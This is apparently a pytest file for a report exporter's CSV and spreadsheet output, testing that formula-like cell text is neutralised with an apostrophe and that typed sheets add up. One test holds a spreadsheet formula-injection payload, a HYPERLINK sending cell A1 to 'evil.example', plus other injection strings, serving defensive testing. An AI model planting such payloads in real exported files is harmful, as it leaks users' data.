"""CSV and sheets."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from adapter.telling.show_table import as_csv, as_xlsx_rows, guarded
from tests.report_sample import sample_report


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_there_is_one_row_for_each_actual() -> None:
    report = sample_report()
    rows = rows_of(as_csv(report))

    assert [row["id"] for row in rows] == [a["id"] for a in report["actuals"]]
    assert rows[6]["status"] == "held"
    assert rows[6]["ledger rule"] == "REQ304"
    assert rows[6]["findings"] == "REQ304"


@pytest.mark.parametrize(
    ("given", "found"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\\u0009=1"),
        ("\r=1", "'\\u000d=1"),
        ("\n=1", "'\\u000a=1"),
        ("  =1", "'  =1"),
        ("\uff1d1", "'\uff1d1"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        ("A\u202eB", "A\\u202eB"),
    ],
)
def test_a_text_that_looks_like_a_formula_gets_an_apostrophe(given: str, found: str) -> None:
    assert guarded(given) == found


def test_hostile_text_is_guarded_and_negative_numbers_stay_numbers() -> None:
    rows = rows_of(as_csv(sample_report()))

    assert rows[11]["description"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"
    assert rows[14]["amount"] == "-35.00"
    assert rows[14]["quantity"] == "-1.00"


def test_a_number_column_that_holds_a_formula_is_text() -> None:
    report = sample_report()
    report["actuals"][0]["amount"] = "=1+1"

    assert rows_of(as_csv(report))[0]["amount"] == "'=1+1"


def test_the_byte_order_mark_is_there_only_when_asked() -> None:
    assert as_csv(sample_report(), bom=True).startswith("\ufeffstatus,")
    assert as_csv(sample_report()).startswith("status,actual,id,")
    assert "\r\n" in as_csv(sample_report())


def test_sheets_hold_typed_cells() -> None:
    sheets = {sheet.name: sheet for sheet in as_xlsx_rows(sample_report())}
    first = dict(zip(sheets["Actuals"].heads, sheets["Actuals"].rows[0], strict=True))

    assert list(sheets) == ["Actuals", "Findings", "Documents", "Equation", "Schedule"]
    assert first["amount"] == Decimal("96.40")
    assert first["date"] == date(2026, 11, 2)
    assert first["description"] == "Filter cartridge 20 in"
    assert len(sheets["Findings"].rows) == 4 + 2 + 3 + 2
    assert len(sheets["Documents"].rows) == 2 + 2 + 1 + 1 + 1


def test_the_equation_sheet_adds_up() -> None:
    sheet = next(s for s in as_xlsx_rows(sample_report()) if s.name == "Equation")
    rows = [dict(zip(sheet.heads, row, strict=True)) for row in sheet.rows]

    assert len(rows) == 2 * 5
    for row in rows:
        numbers = [row[part] for part in ("written", "unchanged", "left", "held")]
        assert sum(n for n in numbers if isinstance(n, Decimal)) == row["in"]
